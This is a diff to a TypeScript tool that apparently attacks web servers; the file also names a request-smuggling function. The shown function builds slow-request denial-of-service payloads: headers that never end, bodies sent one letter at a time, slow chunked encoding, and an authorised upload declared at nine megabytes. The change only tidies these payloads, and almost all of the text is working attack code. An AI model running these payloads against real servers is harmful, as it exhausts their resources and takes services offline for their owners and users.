@@ -37,19 +37,14 @@ async function* smuggleRequests(target: Target): Attempts {
 
 function sendSlowRequests(target: Target) {
   const start = (call: string, ...headers: string[]) => `${call} HTTP/1.1\r\n${["Host: own.example", ...headers].join("\r\n")}\r\n`;
-  const letters = Array.from({ length: 100 }, () => "x");
+  const letters = [..."x".repeat(100)];
+  const length = "Content-Length: 60000\r\n";
   const upload = [`Authorization: ${target.token}`, "Content-Type: multipart/form-data; boundary=x", "Content-Length: 9000000"];
   const slow = {
     "a head that never ends": [start("GET /"), ...letters.map((letter, index) => `X-${index}: ${letter}\r\n`)],
-    "a body letter by letter": [
-      start("POST /api/contact/inquiry", "Content-Type: application/json", "Content-Length: 60000\r\n"),
-      ...letters,
-    ],
-    "chunks letter by letter": [
-      start("POST /logAdmin", "Transfer-Encoding: chunked\r\n"),
-      ...letters.map((letter) => `1\r\n${letter}\r\n`),
-    ],
-    "a body that never begins": [start("POST /api", "Content-Length: 60000\r\n")],
+    "a body letter by letter": [start("POST /api/contact/inquiry", "Content-Type: application/json", length), ...letters],
+    "chunks letter by letter": [start("POST /logAdmin", "Transfer-Encoding: chunked\r\n"), ...letters.map(() => "1\r\nx\r\n")],
+    "a body that never begins": [start("POST /api", length)],
     "an upload letter by letter": [`${start("POST /gallery/upload", ...upload)}\r\n`, ...letters],
   };
   return Object.entries(slow).map(async ([what, parts]) => {
